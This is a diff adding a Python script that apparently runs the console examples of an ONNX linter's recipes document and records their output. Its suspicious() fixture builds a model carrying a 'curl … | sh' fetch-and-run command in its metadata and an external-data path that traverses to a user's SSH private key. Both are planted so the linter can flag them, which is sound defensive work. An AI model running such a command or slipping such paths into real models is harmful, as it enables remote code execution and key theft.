@@ -1,0 +1,152 @@
+"""Run what docs/recipes.md tells people to do, and write down what it shows.
+
+Each ``## `` section is one story in a folder of its own. A block ``…title="PATH"`` is a file that
+is written there; in a ``console`` block every line that begins with ``$ `` is a command for bash,
+and the lines below it are what a terminal shows: both streams, without colours. A command that ends
+with another code than 0 is followed by a line ``(exit code N)``. Where a text has ``…/onnxlint``,
+for the address of this repository, the story has a clone of this tree. ``python -m tools.recipes``
+writes the outputs anew; a test compares.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+from collections.abc import Callable, Iterator, Mapping
+from pathlib import Path
+
+import onnx
+import onnx.parser
+
+from tests.cli.repositories import commit, environment, git, repository, write
+from tests.workflow.borrowed import OFFLINE, copy_tree
+
+ROOT = Path(__file__).parents[1]
+DOCUMENT = ROOT / "docs" / "recipes.md"
+SECTION = re.compile(r"^## (.+?)\n(.*?)(?=^## |\Z)", re.DOTALL | re.MULTILINE)
+BLOCK = re.compile(
+    r'^```(?P<kind>\w+)(?: title="(?P<file>[^"]+)")?\n(?P<body>.*?)^```$', re.DOTALL | re.MULTILINE
+)
+ADDRESS = "…/onnxlint"
+VERSION = "v0.1.0"
+_NOISE = re.compile(r"^\[INFO\] .*\n|^\x1b.*\n", re.MULTILINE)
+"""What pre-commit says only the first time."""
+
+
+def sections(text: str) -> dict[str, str]:
+    """What stands below each heading."""
+    return {match[1]: match[2] for match in SECTION.finditer(text)}
+
+
+def render(title: str, text: str, folder: Path) -> str:
+    """A section whose outputs are what its commands show, run in ``folder``, which is empty."""
+    project = folder / "project"
+    make_models(project, inbox="inbox" in text)
+    repository(project)
+    commit(project)
+    tool = Clone(folder)
+
+    def block(match: re.Match[str]) -> str:
+        body = match["body"]
+        if match["file"]:
+            write(project / match["file"], tool.located(body).encode())
+        elif match["kind"] == "console":
+            shown = [shell(line, project, tool, folder) for line in commands(body)]
+            return f"```console\n{''.join(shown)}```"
+        return match[0]
+
+    return BLOCK.sub(block, text)
+
+
+class Clone:
+    """A repository that holds this tree at the version that the document names, made if asked."""
+
+    def __init__(self, folder: Path) -> None:
+        self._place = folder / "clone"
+
+    def located(self, text: str) -> str:
+        """``text`` with an address that leads to the clone."""
+        if ADDRESS not in text:
+            return text
+        if not self._place.exists():
+            commit(repository(copy_tree(self._place)))
+            git(self._place, "tag", VERSION)
+        return text.replace(ADDRESS, str(self._place))
+
+
+def commands(body: str) -> Iterator[str]:
+    """The command lines of a ``console`` block."""
+    return (line[2:] for line in body.splitlines() if line.startswith("$ "))
+
+
+def shell(line: str, project: Path, tool: Clone, folder: Path) -> str:
+    """One command line and what it shows."""
+    search = os.pathsep.join((str(Path(sys.executable).parent), os.environ["PATH"]))
+    done = subprocess.run(
+        ["bash", "-c", tool.located(line)],
+        cwd=project,
+        env=environment(
+            PATH=search, COLUMNS="100", NO_COLOR="1", PRE_COMMIT_HOME=str(folder / "pre-commit"),
+            PRE_COMMIT_COLOR="never", **OFFLINE,
+        ),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        encoding="utf-8",
+        check=False,
+    )  # fmt: skip
+    shown = _NOISE.sub("", done.stdout).replace(str(folder / "clone"), ADDRESS)
+    shown = "".join(f"{each.rstrip()}\n" for each in shown.splitlines())
+    ended = f"(exit code {done.returncode})\n" if done.returncode else ""
+    return f"$ {line}\n{shown}{ended}"
+
+
+def make_models(project: Path, *, inbox: bool) -> None:
+    """The models of the stories: one that somebody else has sent, or two networks."""
+    if inbox:
+        write(project / "inbox" / "detector.onnx", suspicious())
+        return
+    (project / "models").mkdir(parents=True)
+    for name in ("mobilenet_v1", "mobilenet_v1_standard"):
+        shutil.copy(ROOT / "samples" / f"{name}.onnx", project / "models")
+
+
+def suspicious() -> bytes:
+    """A small network with what a stranger may have put into it."""
+    model = onnx.parser.parse_model("""
+    <ir_version: 8, opset_import: ["" : 17, "com.vendor" : 1],
+     metadata_props: ["setup" : "curl http://198.51.100.7/s.sh | sh"]>
+    detector (float[1,3,32,32] image) => (float[1,8,32,32] boxes) <float[8,3,1,1] w> {
+      features = Conv (image, w)
+      boxes = com.vendor.Decode (features)
+    }""")
+    tensor = model.graph.initializer.add(name="w", data_type=1, dims=[8, 3, 1, 1])
+    tensor.data_location = onnx.TensorProto.EXTERNAL
+    tensor.external_data.add(key="location", value="../../home/user/.ssh/id_ed25519")
+    data: bytes = model.SerializeToString()
+    return data
+
+
+def rendered(text: str, keep: Callable[[str], bool] = lambda title: True) -> Mapping[str, str]:
+    """Sections by title, run anew."""
+    found = {}
+    for title, body in sections(text).items():
+        if keep(title):
+            with tempfile.TemporaryDirectory() as folder:
+                found[title] = render(title, body, Path(folder))
+    return found
+
+
+def main() -> None:
+    text = DOCUMENT.read_text("utf-8")
+    for title, body in rendered(text).items():
+        text = text.replace(sections(text)[title], body)
+    DOCUMENT.write_text(text, "utf-8")
+    print(DOCUMENT.name)
+
+
+if __name__ == "__main__":
+    main()
